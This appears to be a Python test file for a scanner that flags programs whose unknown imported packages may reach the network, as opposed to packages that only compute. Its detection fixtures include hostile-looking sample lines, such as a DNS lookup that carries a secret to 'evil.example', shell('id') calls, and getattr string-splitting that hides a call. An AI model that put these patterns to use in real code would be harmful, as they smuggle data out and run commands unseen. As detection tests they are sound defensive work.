"""Whole programs of Python: a package that Aver does not know may compute, and not reach out."""

from __future__ import annotations

from aver.gate.effects.python_program import scan_python_program
from support.many_cases import for_each

REACHING = [
    "import niquests; niquests.get('x')",
    "import niquests as n; n.post(url, data)",
    "from niquests import get as g; g('evil.example')",
    "import whois; whois.whois('evil.example')",
    "import dns_thing; dns_thing.resolve(secret + '.evil.example')",
    "import evilpkg; evilpkg.Client('10.0.0.1:80').hello()",
    "import evilpkg; c = evilpkg.Thing(); c.connect('h')",
    "import evilpkg; evilpkg.run('id')",
    "from evilpkg import shell; shell('id')",
    "from evilpkg.tools import run as go; go('id')",
    "import evilpkg; evilpkg.api.v1.run('id')",
    "import evilpkg; evilpkg.make().send(1)",
    "import evilpkg; [f.upload('x') for f in evilpkg.all()]",
    "import evilpkg; x = evilpkg.Mail('a@evil.example')",
    "from django.core.management import call_command; call_command('shell')",
    "import sympy; sympy.sympify('x')",
    "from transformers import AutoModel; AutoModel.from_pretrained('x')",
    "import evilpkg; evilpkg.session().go()",
    "import evilpkg; e = evilpkg; e.run('x')",
    "import evilpkg; f = evilpkg.run; f('x')",
    "from evilpkg import *; run('x')",
    "import evilpkg; getattr(evilpkg, 'r' + 'un')('x')",
    "import evilpkg.sub as e; e.push('x')",
    "from evilpkg import Client",
    "import evilpkg; evilpkg.Session",
    "import numpy; import evilpkg; evilpkg.fetch(numpy.array([1]))",
    "import evilpkg; x = evilpkg.thing; x.sendall(b'1')",
    "import evilpkg; print(evilpkg.lookup('a'))",
]
COMPUTING = [
    "import pvlib; print(pvlib.spa.calculate(1, 2))",
    "from src.app import total; print(total([1, 2]))",
    "import numpy as np; print(np.array([1]).sum())",
    "import pandas as pd; print(pd.DataFrame({'a': [1]}).head())",
    "import shop; print(shop.__version__)",
    "from astroid import parse; print(parse('x = 1'))",
    "import fasttext; print(fasttext.__file__)",
    "import django; print(django.VERSION)",
    "import shop; print(shop.price('data.csv'))",
    "from shop.models import Order; o = Order(1); o.save_all(); print(o)",
    "import jsonschema; jsonschema.validate({}, {})",
    "import sympy; print(sympy.Symbol('x') + 1)",
]


@for_each(REACHING)
def test_a_package_that_may_reach_out_is_found(program: str) -> None:
    assert scan_python_program(program, is_inside=lambda path: True)


@for_each(COMPUTING)
def test_a_package_that_computes_is_not(program: str) -> None:
    assert scan_python_program(program, is_inside=lambda path: True) == ()


@for_each(REACHING)
def test_a_module_beside_the_program_is_of_the_workspace(program: str) -> None:
    found = scan_python_program(program, is_inside=lambda path: True, is_own_module=lambda name: name == "evilpkg")
    assert not any("does not know" in reach.word for reach in found) or "evilpkg" not in program


def test_modules_are_imported_from_the_workspace_alone() -> None:
    def scan(program: str) -> tuple[object, ...]:
        return scan_python_program(
            program,
            is_inside=lambda path: path.startswith(("/work", "/tmp", ".")),
            may_import=lambda path: path.startswith(("/work", ".")),
        )

    assert scan("import sys; sys.path.insert(0, '/tmp/x'); import helper")
    assert scan("from sys import path; path.append('/tmp/x'); import helper")
    assert not scan("import sys; sys.path.insert(0, '/work/src'); import helper")
    assert not scan("print(open('/tmp/x.txt').read())")
